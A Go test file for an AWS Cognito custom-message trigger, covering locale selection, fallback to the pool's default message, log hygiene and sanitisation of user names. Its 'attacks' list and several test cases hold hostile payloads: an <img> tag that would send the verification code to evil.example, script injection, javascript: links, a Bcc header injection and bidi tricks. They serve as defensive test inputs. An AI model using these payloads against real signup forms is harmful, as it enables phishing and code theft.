package custommessage_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/cognito-triggers/suite/internal/testevent"
	"github.com/cognito-triggers/suite/pkg/custommessage"
	"github.com/cognito-triggers/suite/pkg/decision"
	"github.com/cognito-triggers/suite/pkg/message"
	"github.com/cognito-triggers/suite/pkg/triggers"
)

// TestFixtures: every source, in both locales, with and without email
// customisation. The response holds exactly what the renderer makes of the
// event (read here from the typed event), the email fields are null when
// CUSTOMIZE_EMAIL is false, the rest of the event is unchanged, every
// output passes message.Check, and the decision line carries the locale and
// lengths but no message text.
func TestFixtures(t *testing.T) {
	r := testRenderer(t)
	for _, customize := range []bool{true, false} {
		cfg := custommessage.Config{Message: brand, CustomizeEmail: customize}
		var logs bytes.Buffer
		h := handler(t, cfg, r, &logs)
		for _, fx := range fixtures {
			for _, locale := range []string{"en", "zh-CN"} {
				name := fx + "/" + locale
				if !customize {
					name += "/sms-only"
				}
				t.Run(name, func(t *testing.T) {
					in := testevent.Load(t, fx, testevent.SetAttr("locale", locale))
					out, err := h.Invoke(context.Background(), in)
					if err != nil {
						t.Fatalf("Invoke: %v", err)
					}
					mi := wantInput(t, in, cfg)
					want, err := r.Render(mi)
					if err != nil {
						t.Fatalf("reference render: %v", err)
					}
					wantResp := map[string]any{"smsMessage": want.SMSMessage, "emailMessage": nil, "emailSubject": nil}
					if customize {
						wantResp["emailMessage"], wantResp["emailSubject"] = want.EmailMessage, want.EmailSubject
					}
					wantEvent := decoded(t, in)
					wantEvent["response"] = wantResp
					if diff := cmp.Diff(wantEvent, decoded(t, out)); diff != "" {
						t.Errorf("returned event (-want +got):\n%s", diff)
					}

					got, emailSet := responseOutput(t, out)
					if emailSet != customize {
						t.Fatalf("email fields set = %v with CUSTOMIZE_EMAIL=%v", emailSet, customize)
					}
					if !customize { // Check wants all three; the email part was checked above
						got.EmailMessage, got.EmailSubject = want.EmailMessage, want.EmailSubject
					}
					if err := message.Check(mi, got); err != nil {
						t.Errorf("message.Check: %v", err)
					}
					if strings.Count(got.SMSMessage, "{####}") != 1 {
						t.Errorf("SMS has %d code placeholders, want 1: %q", strings.Count(got.SMSMessage, "{####}"), got.SMSMessage)
					}
					if hasHan(got.SMSMessage) != (locale == "zh-CN") {
						t.Errorf("locale %s: SMS %q is in the wrong language", locale, got.SMSMessage)
					}
					if customize && !strings.Contains(got.EmailMessage, `<html lang="`+locale+`">`) {
						t.Errorf("locale %s: email is not marked as %s", locale, locale)
					}
					greets := mi.Source == triggers.SourceMessageAdminCreateUser || mi.Source == triggers.SourceMessageForgotPassword ||
						mi.Source == triggers.SourceMessageAuthentication
					for _, person := range []string{"Jane Doe", "John Roe"} {
						if strings.Contains(got.EmailMessage, person) && !greets {
							t.Errorf("%s greets the unverified recipient by name", mi.Source)
						}
					}

					line := lastDecision(t, &logs)
					wantLine := map[string]any{"outcome": string(decision.OutcomeRendered), "locale": locale,
						"smsLength": float64(utf8.RuneCountInString(got.SMSMessage)), "Rendered": 1.0, "RenderFailures": 0.0}
					if customize {
						wantLine["emailLength"] = float64(utf8.RuneCountInString(got.EmailMessage))
					}
					gotLine := map[string]any{}
					for _, k := range []string{"outcome", "reason", "locale", "smsLength", "emailLength", "Rendered", "RenderFailures"} {
						if v, ok := line[k]; ok {
							gotLine[k] = v
						}
					}
					if diff := cmp.Diff(wantLine, gotLine); diff != "" {
						t.Errorf("decision line (-want +got):\n%s", diff)
					}
					assertCleanLog(t, line)
				})
			}
		}
	}
}

// assertCleanLog: no message text, placeholder, name or address in a line.
func assertCleanLog(t *testing.T, line map[string]any) {
	t.Helper()
	b := marshal(t, line)
	for _, s := range []string{"{####}", "{username}", "Jane", "John", "jane.doe@", "john.roe@", "Acme", "<", "\\u003c"} {
		if bytes.Contains(b, []byte(s)) {
			t.Errorf("decision line contains %q: %s", s, b)
		}
	}
}

func hasHan(s string) bool {
	for _, r := range s {
		if 0x4e00 <= r && r <= 0x9fff {
			return true
		}
	}
	return false
}

// TestLocale: the locale attribute picks the templates by the renderer's
// rules; clientMetadata, which the app or any API caller chooses, never
// does; DEFAULT_LOCALE covers the rest.
func TestLocale(t *testing.T) {
	zhDefault := brand
	zhDefault.DefaultLocale = "zh-CN"
	rzh, err := message.New(zhDefault)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name     string
		r        *message.Renderer
		locale   any // nil: no locale attribute
		metadata string
		want     string
	}{
		{"exact", nil, "zh-CN", "", "zh-CN"},
		{"underscore and case", nil, "ZH_cn", "", "zh-CN"},
		{"language only", nil, "zh", "", "zh-CN"},
		{"traditional falls back to simplified", nil, "zh-TW", "", "zh-CN"},
		{"regional english", nil, "en-GB", "", "en"},
		{"unsupported language", nil, "fr-FR", "", "en"},
		{"garbage", nil, "<script>", "", "en"},
		{"no attribute", nil, nil, "", "en"},
		{"client metadata ignored", nil, nil, "zh-CN", "en"},
		{"client metadata does not override", nil, "en", "zh-CN", "en"},
		{"configured default", rzh, nil, "", "zh-CN"},
		{"configured default for unsupported", rzh, "fr", "", "zh-CN"},
		{"attribute beats default", rzh, "en-US", "", "en"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := tt.r
			if r == nil {
				r = testRenderer(t)
			}
			var logs bytes.Buffer
			h := handler(t, custommessage.Config{Message: brand, CustomizeEmail: true}, r, &logs)
			in := testevent.Load(t, "custommessage-forgot-password.json", testevent.SetAttr("locale", tt.locale),
				testevent.SetRequest("clientMetadata", map[string]any{"locale": tt.metadata}))
			out, err := h.Invoke(context.Background(), in)
			if err != nil {
				t.Fatal(err)
			}
			got, _ := responseOutput(t, out)
			if !strings.Contains(got.EmailMessage, `<html lang="`+tt.want+`">`) {
				t.Errorf("email not in %s", tt.want)
			}
			if line := lastDecision(t, &logs); line["locale"] != tt.want {
				t.Errorf("decision line locale = %v, want %s", line["locale"], tt.want)
			}
		})
	}
}

// attacks are hostile display names, as someone who signs up with a
// victim's address would choose them to make our mail deliver a phishing
// link or leak the code: markup, the code-exfiltrating <img>, bare and
// hidden links, placeholder copies, header injection, bidi tricks. Every "evil" in them is part of a link or markup,
// so none may survive into a message.
var attacks = []string{
	`<img src="https://evil.example/c?x={####}">`,
	`<img src=https://evil.example/{####}>`,
	`Jane <img src="https://evil.example/x">`,
	`</a><a href="https://evil.example">{##Click Here##}</a>`,
	`"><script src=//evil.example/x.js></script>`,
	`javascript:alert('evil.example')`,
	`evil.io/login`,
	`https://evil.io`,
	`Visit evil.com now`,
	`www.evil.example`,
	`evil@evil.example`,
	`{####}`,
	`{username}`,
	`{##Click Here##}`,
	`{{.Code}} {{template "layout" .}}`,
	"Jane\r\nBcc: evil@evil.example",
	"\u202eevil.example\u202c",
	"Jane\u200b.evil\u200bexample",
	"&lt;img src=evil.example&gt;",
	"Ｊａｎｅ <ｉｍｇ ｓｒｃ=evil.example>",
	strings.Repeat("Jane ", 2000) + "evil.example",
	"\x00\x01\x7f<evil.example>",
}

// TestHostileNames: a hostile name, userName or attribute leaves no markup,
// no link, no extra placeholder in any field, and changes nothing but the
// greeting: each field has as many '<', {####} and {username} as with a
// harmless name, and {username} appears only in the invitation.
func TestHostileNames(t *testing.T) {
	r := testRenderer(t)
	h := handler(t, custommessage.Config{Message: brand, CustomizeEmail: true, LinkVerification: true}, r, nil)
	render := func(t *testing.T, in []byte) message.Output {
		t.Helper()
		out, err := h.Invoke(context.Background(), in)
		if err != nil {
			t.Fatalf("Invoke: %v", err)
		}
		if !hasRendered(t, out) {
			t.Fatalf("hostile input fell back to the default message; want the branded one with the name dropped")
		}
		got, _ := responseOutput(t, out)
		if err := message.Check(wantInput(t, in, custommessage.Config{LinkVerification: true}), got); err != nil {
			t.Errorf("message.Check: %v", err)
		}
		return got
	}
	for _, fx := range fixtures {
		admin := fx == "custommessage-admin-create-user.json"
		benign := render(t, testevent.Load(t, fx, testevent.SetAttr("given_name", "Jane"), testevent.SetAttr("name", "Jane Doe"),
			testevent.SetAttr("nickname", "JD")))
		for i, attack := range attacks {
			for _, where := range []string{"attributes", "userName"} {
				t.Run(fx+"/"+where+"/"+string(rune('a'+i)), func(t *testing.T) {
					edits := []testevent.Edit{testevent.Set("userName", attack)}
					if where == "attributes" {
						edits = nil
						for _, a := range []string{"given_name", "name", "nickname", "family_name", "preferred_username", "middle_name", "custom:bio", "locale"} {
							edits = append(edits, testevent.SetAttr(a, attack))
						}
					}
					got := render(t, testevent.Load(t, fx, edits...))
					bad := []string{"<img", "<script", "<a href=\"https://evil", "evil", "javascript:", "\u202e", "\u200b", "{{"}
					if where == "userName" {
						// The userName is the account's own name and goes,
						// percent-encoded, into the link's query only, so its
						// text may be there; its markup may not.
						bad = slices.DeleteFunc(bad, func(s string) bool { return s == "evil" })
					}
					for field, s := range fields(got) {
						for _, bad := range bad {
							if containsFold(s, bad) {
								t.Errorf("%s contains %q", field, bad)
							}
						}
						want := fields(benign)[field]
						for _, sub := range []string{"<", "{####}", "{username}", "{##Click Here##}"} {
							if g, w := strings.Count(s, sub), strings.Count(want, sub); g != w {
								t.Errorf("%s has %d %q, want %d as with a harmless name", field, g, sub, w)
							}
						}
						if !admin && strings.Contains(s, "{username}") {
							t.Errorf("%s contains {username} outside AdminCreateUser", field)
						}
					}
				})
			}
		}
	}
}

// hasRendered reports whether a returned event carries a branded SMS
// (smsMessage not null), as opposed to the pool's default message.
func hasRendered(t *testing.T, out []byte) bool {
	t.Helper()
	resp, _ := decoded(t, out)["response"].(map[string]any)
	return resp["smsMessage"] != nil
}

// TestDefaultMessage: whenever a message cannot be rendered, the event goes
// back as received (its null response fields keep the pool's message), the
// decision line says why and RenderFailures counts it; the invocation never
// fails. The event is re-encoded from its typed form, so "as received"
// means the same JSON value; a request that does not decode goes back byte
// for byte.
func TestDefaultMessage(t *testing.T) {
	rawRequest := func(req string) testevent.Edit { return testevent.Set("request", json.RawMessage(req)) }
	failing := fakeRenderer(func(message.Input) (message.Output, error) {
		return message.Output{}, errors.New("message: en/sign-up.html: template: boom")
	})
	panicking := fakeRenderer(func(message.Input) (message.Output, error) { panic("secret {####} Jane") })
	// A renderer that returns what Check must refuse: no code in the SMS.
	unchecked := fakeRenderer(func(in message.Input) (message.Output, error) {
		return message.Output{EmailSubject: "Hi", SMSMessage: "no code here", EmailMessage: "code " + in.CodeParameter}, nil
	})
	tests := []struct {
		name    string
		fixture string
		edit    testevent.Edit // nil: the fixture as it is
		r       custommessage.Renderer
		cfg     custommessage.Config
		reason  decision.Reason
	}{
		{name: "empty code parameter", edit: testevent.SetRequest("codeParameter", ""), reason: decision.ReasonMissingCodeParameter},
		{name: "no code parameter", edit: testevent.SetRequest("codeParameter", nil), reason: decision.ReasonMissingCodeParameter},
		{name: "null code parameter", edit: testevent.SetRequest("codeParameter", testevent.Null), reason: decision.ReasonMissingCodeParameter},
		{name: "code parameter not a string", edit: testevent.SetRequest("codeParameter", 1234), reason: decision.ReasonMalformedRequest},
		{name: "code parameter without braces", edit: testevent.SetRequest("codeParameter", "####"), reason: decision.ReasonInvalidPlaceholder},
		{name: "code parameter with markup", edit: testevent.SetRequest("codeParameter", `{"><img src=x>}`), reason: decision.ReasonInvalidPlaceholder},
		{name: "code parameter with inner brace", edit: testevent.SetRequest("codeParameter", "{#{##}"), reason: decision.ReasonInvalidPlaceholder},
		{name: "invitation without username parameter", fixture: "custommessage-admin-create-user.json",
			edit: testevent.SetRequest("usernameParameter", testevent.Null), reason: decision.ReasonInvalidPlaceholder},
		{name: "invitation with unsafe username parameter", fixture: "custommessage-admin-create-user.json",
			edit: testevent.SetRequest("usernameParameter", "{<b>}"), reason: decision.ReasonInvalidPlaceholder},
		{name: "unsafe link parameter", cfg: custommessage.Config{LinkVerification: true},
			edit: testevent.SetRequest("linkParameter", `{##<a href="https://evil.example">##}`), reason: decision.ReasonInvalidPlaceholder},
		{name: "link parameter not a string", edit: testevent.SetRequest("linkParameter", []any{"x"}), reason: decision.ReasonMalformedRequest},
		{name: "duplicate code parameter", edit: rawRequest(`{"codeParameter":"{####}","codeParameter":"{<img>}"}`), reason: decision.ReasonMalformedRequest},
		{name: "case variant of code parameter", edit: rawRequest(`{"codeParameter":"{####}","CodeParameter":"{##}"}`), reason: decision.ReasonMalformedRequest},
		{name: "duplicate name attribute", edit: rawRequest(`{"userAttributes":{"name":"Jane","name":"x"},"codeParameter":"{####}"}`), reason: decision.ReasonMalformedRequest},
		{name: "user attributes not an object", edit: testevent.SetRequest("userAttributes", "Jane"), reason: decision.ReasonMalformedRequest},
		{name: "request not an object", edit: testevent.Set("request", "Jane"), reason: decision.ReasonMalformedRequest},
		{name: "response member of the wrong type", edit: testevent.Set("response", map[string]any{"smsMessage": 12}), reason: decision.ReasonMalformedRequest},
		{name: "renderer error", r: failing, reason: decision.ReasonRenderFailed},
		{name: "renderer panic", r: panicking, reason: decision.ReasonRenderFailed},
		{name: "renderer output fails Check", r: unchecked, reason: decision.ReasonRenderFailed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fx := tt.fixture
			if fx == "" {
				fx = "custommessage-signup.json"
			}
			r := tt.r
			if r == nil {
				r = testRenderer(t)
			}
			tt.cfg.Message, tt.cfg.CustomizeEmail = brand, true
			var logs bytes.Buffer
			h := handler(t, tt.cfg, r, &logs)
			in := testevent.Raw(t, fx)
			if tt.edit != nil {
				in = testevent.Apply(t, in, tt.edit)
			}
			out, err := h.Invoke(context.Background(), in)
			if err != nil {
				t.Fatalf("Invoke failed (%v): a message must never be blocked", err)
			}
			if tt.reason == decision.ReasonMalformedRequest {
				if !bytes.Equal(out, in) {
					t.Errorf("an event that does not decode came back changed:\n got %s\nwant %s", out, in)
				}
			} else {
				assertUnchanged(t, in, out)
			}
			line := lastDecision(t, &logs)
			assertFallbackLine(t, line, tt.reason)
		})
	}
}

// assertUnchanged: out is the event in as the typed model reads it, its
// response included. The event is re-encoded from its typed form, so a
// member the type always writes appears even where in lacks it (a missing
// or null codeParameter comes back as "").
func assertUnchanged(t *testing.T, in, out []byte) {
	t.Helper()
	want, err := triggers.Encode(testevent.Decode[triggers.CustomMessage](t, in))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(decoded(t, want), decoded(t, out)); diff != "" {
		t.Errorf("event changed (-in +out):\n%s", diff)
	}
	if diff := cmp.Diff(decoded(t, in)["response"], decoded(t, out)["response"]); diff != "" {
		t.Errorf("response changed (-in +out):\n%s", diff)
	}
}

// assertFallbackLine: the decision line of a default message says why,
// counts a render failure, and carries a cause that quotes nothing of the
// event.
func assertFallbackLine(t *testing.T, line map[string]any, reason decision.Reason) {
	t.Helper()
	got := map[string]any{"outcome": line["outcome"], "reason": line["reason"], "Rendered": line["Rendered"], "RenderFailures": line["RenderFailures"]}
	want := map[string]any{"outcome": string(decision.OutcomeDefaultMessage), "reason": string(reason), "Rendered": 0.0, "RenderFailures": 1.0}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("decision line (-want +got):\n%s", diff)
	}
	if c, _ := line["cause"].(string); c == "" {
		t.Errorf("decision line has no cause: %v", line)
	}
	b := marshal(t, line)
	for _, s := range []string{"{####}", "Jane", "secret", "<img", "evil"} {
		if bytes.Contains(b, []byte(s)) {
			t.Errorf("decision line contains %q: %s", s, b)
		}
	}
}

// TestMalformedRequestCause: the cause of a request that does not decode
// says where and what kind of problem, by the member names this trigger
// knows, and quotes no value and no member name the caller chose.
func TestMalformedRequestCause(t *testing.T) {
	for _, tt := range []struct {
		name, request string
		want          []string
	}{
		{"number for a string", `{"codeParameter":1234}`, []string{"request.codeParameter: a JSON number cannot be read as string"}},
		{"duplicate key in client metadata", `{"codeParameter":"{####}","clientMetadata":{"secret.key@example.com":"x","secret.key@example.com":"y"}}`,
			[]string{"request.clientMetadata", "a member name appears twice"}},
		{"duplicate attribute", `{"codeParameter":"{####}","userAttributes":{"Jane":"x","Jane":"y"}}`, []string{"request.userAttributes", "a member name appears twice"}},
		{"attributes not an object", `{"userAttributes":"Jane secret"}`, []string{"request.userAttributes: a JSON "}},
		{"case variant", `{"codeParameter":"{####}","CODEPARAMETER":"secret"}`, []string{"a member name is a case variant of a known one"}},
		{"case variant of an attribute-like name", `{"codeParameter":"{####}","userattributes":{"secret":"Jane"}}`, []string{"a member name is a case variant of a known one"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			raw := testevent.Load(t, "custommessage-signup.json", testevent.Set("request", json.RawMessage(tt.request)))
			_, err := triggers.Decode[triggers.CustomMessage](raw)
			if !errors.Is(err, triggers.ErrMalformedRequest) {
				t.Fatalf("Decode: %v, want ErrMalformedRequest", err)
			}
			res := custommessage.MalformedRequest(err)
			if res.Outcome != decision.OutcomeDefaultMessage || res.Reason != decision.ReasonMalformedRequest || res.Err != nil {
				t.Fatalf("result %+v, want default_message/malformed_request without a refusal", res)
			}
			var cause string
			for _, f := range res.Facts {
				if f.Key == "cause" {
					cause, _ = f.Value.(string)
				}
			}
			for _, w := range tt.want {
				if !strings.Contains(cause, w) {
					t.Errorf("cause %q does not contain %q", cause, w)
				}
			}
			for _, s := range []string{"secret", "Jane", "1234", "{####}", "CODEPARAMETER", "userattributes"} {
				if strings.Contains(cause, s) {
					t.Errorf("cause %q quotes the event: %q", cause, s)
				}
			}
			if diff := cmp.Diff([]decision.Metric{decision.Counter("Rendered", false), decision.Counter("RenderFailures", true)}, res.Metrics); diff != "" {
				t.Errorf("metrics (-want +got):\n%s", diff)
			}
		})
	}
}

// TestMalformedEvents: an event whose header is unusable is refused with
// the generic text, by package invoke; nothing else is.
func TestMalformedEvents(t *testing.T) {
	h := handler(t, custommessage.Config{Message: brand}, testRenderer(t), nil)
	for name, in := range map[string][]byte{
		"not json":        []byte(`{"version":`),
		"another trigger": testevent.Raw(t, "presignup-signup.json"),
		"unknown source":  testevent.Load(t, "custommessage-signup.json", testevent.Set("triggerSource", "CustomMessage_Whatever")),
		"no user pool":    testevent.Load(t, "custommessage-signup.json", testevent.Set("userPoolId", nil)),
	} {
		t.Run(name, func(t *testing.T) {
			out, err := h.Invoke(context.Background(), in)
			var ue *decision.UserError
			if !errors.As(err, &ue) || out != nil || ue.Message != decision.MalformedMessage {
				t.Fatalf("got %s, %v; want the invocation layer's refusal", out, err)
			}
		})
	}
}

// TestLinkVerification: the link placeholder goes into the four
// verification emails only when the pool verifies by link, and never into
// an SMS, a subject or the other messages.
func TestLinkVerification(t *testing.T) {
	r := testRenderer(t)
	for _, link := range []bool{false, true} {
		h := handler(t, custommessage.Config{Message: brand, CustomizeEmail: true, LinkVerification: link}, r, nil)
		for _, fx := range fixtures {
			t.Run(fx, func(t *testing.T) {
				out, err := h.Invoke(context.Background(), testevent.Raw(t, fx))
				if err != nil {
					t.Fatal(err)
				}
				got, _ := responseOutput(t, out)
				verification := map[string]bool{"custommessage-signup.json": true, "custommessage-resend-code.json": true,
					"custommessage-update-user-attribute.json": true, "custommessage-verify-user-attribute.json": true}[fx]
				if has := strings.Contains(got.EmailMessage, "{##Click Here##}"); has != (link && verification) {
					t.Errorf("link mode %v: email has the link placeholder = %v", link, has)
				}
				if strings.Contains(got.SMSMessage+got.EmailSubject, "{##Click") {
					t.Errorf("link placeholder in SMS or subject")
				}
			})
		}
	}
}

// TestUnknownAttributesAndBooleans: attributes sent as JSON booleans (seen
// in real events) and unknown attributes do not disturb the decision.
func TestUnknownAttributesAndBooleans(t *testing.T) {
	h := handler(t, custommessage.Config{Message: brand, CustomizeEmail: true}, testRenderer(t), nil)
	in := testevent.Load(t, "custommessage-forgot-password.json", testevent.SetAttr("email_verified", true),
		testevent.SetAttr("custom:x", "y"), testevent.SetAttr("given_name", "Zoë"))
	out, err := h.Invoke(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := responseOutput(t, out)
	if !strings.Contains(got.EmailMessage, "Zoë") {
		t.Errorf("given_name not used for the greeting")
	}
	if v := testevent.Decode[triggers.CustomMessage](t, out).Request.UserAttributes.Get("email_verified"); v != "true" {
		t.Errorf("email_verified came back as %q, want the boolean's text", v)
	}
	if ua, _ := decoded(t, out)["request"].(map[string]any)["userAttributes"].(map[string]any); ua["email_verified"] != "true" {
		t.Errorf("echoed email_verified = %#v", ua["email_verified"])
	}
}

// TestNonStringAttributes: an attribute that is not a JSON string is read
// as its JSON text, as every other trigger reads it, so it is just another
// untrusted value: as a locale it matches no template locale (the default
// is used), as a name it is sanitised like any other, and the message is
// still branded.
func TestNonStringAttributes(t *testing.T) {
	var logs bytes.Buffer
	h := handler(t, custommessage.Config{Message: brand, CustomizeEmail: true}, testRenderer(t), &logs)
	in := testevent.Load(t, "custommessage-forgot-password.json",
		testevent.SetAttr("locale", map[string]any{"x": 1}),
		testevent.SetAttr("given_name", []any{`<img src="https://evil.example/{####}">`}),
		testevent.SetAttr("name", nil))
	out, err := h.Invoke(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := responseOutput(t, out)
	if err := message.Check(wantInput(t, in, custommessage.Config{}), got); err != nil {
		t.Errorf("message.Check: %v", err)
	}
	for field, s := range fields(got) {
		if containsFold(s, "evil") || containsFold(s, "<img") {
			t.Errorf("%s carries the attribute's markup: %q", field, s)
		}
	}
	if line := lastDecision(t, &logs); line["outcome"] != string(decision.OutcomeRendered) || line["locale"] != "en" {
		t.Errorf("decision line %v, want rendered in en", line)
	}
}

// TestNoResponseMember: an event without "response" gets one.
func TestNoResponseMember(t *testing.T) {
	h := handler(t, custommessage.Config{Message: brand}, testRenderer(t), nil)
	out, err := h.Invoke(context.Background(), testevent.Load(t, "custommessage-signup.json", testevent.Set("response", nil)))
	if err != nil {
		t.Fatal(err)
	}
	got, emailSet := responseOutput(t, out)
	if emailSet || !strings.Contains(got.SMSMessage, "{####}") {
		t.Errorf("response = %+v (email set %v)", got, emailSet)
	}
}

// TestUnknownMembersKept: members Cognito may add later, at the top level,
// in the request and in the response, come back as they came, next to the
// branded message.
func TestUnknownMembersKept(t *testing.T) {
	h := handler(t, custommessage.Config{Message: brand, CustomizeEmail: true}, testRenderer(t), nil)
	in := testevent.Load(t, "custommessage-signup.json",
		testevent.Set("futureTop", map[string]any{"a": []any{1.0, "b"}}),
		testevent.SetRequest("futureRequest", "x"),
		func(ev map[string]any) { testevent.Object(ev, "response")["futureResponse"] = nil })
	out, err := h.Invoke(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	got := decoded(t, out)
	if diff := cmp.Diff(map[string]any{"a": []any{1.0, "b"}}, got["futureTop"]); diff != "" {
		t.Errorf("top-level member (-want +got):\n%s", diff)
	}
	if v := got["request"].(map[string]any)["futureRequest"]; v != "x" {
		t.Errorf("request member = %#v", v)
	}
	resp := got["response"].(map[string]any)
	if v, ok := resp["futureResponse"]; !ok || v != nil {
		t.Errorf("response member = %#v (present %v), want null", v, ok)
	}
	if resp["smsMessage"] == nil || resp["emailMessage"] == nil || resp["emailSubject"] == nil {
		t.Errorf("response not branded: %v", resp)
	}
}

// TestSMSOnlyNullsEmail: without CUSTOMIZE_EMAIL the email fields are sent
// as null even when the event arrived with strings in them, because a pool
// that does not send through SES fails the request when either is set.
func TestSMSOnlyNullsEmail(t *testing.T) {
	h := handler(t, custommessage.Config{Message: brand}, testRenderer(t), nil)
	in := testevent.Load(t, "custommessage-signup.json",
		testevent.Set("response", map[string]any{"smsMessage": nil, "emailMessage": "x {####}", "emailSubject": "x"}))
	out, err := h.Invoke(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	if _, emailSet := responseOutput(t, out); emailSet {
		t.Errorf("email fields set without CUSTOMIZE_EMAIL: %s", out)
	}
}

// TestNewNeedsARenderer: a Decider without a renderer is a wiring mistake
// that New reports instead of panicking on the first message.
func TestNewNeedsARenderer(t *testing.T) {
	if d, err := custommessage.New(custommessage.Config{Message: brand}, custommessage.Deps{}); err == nil || d != nil {
		t.Fatalf("New without a renderer = %v, %v; want an error", d, err)
	}
}
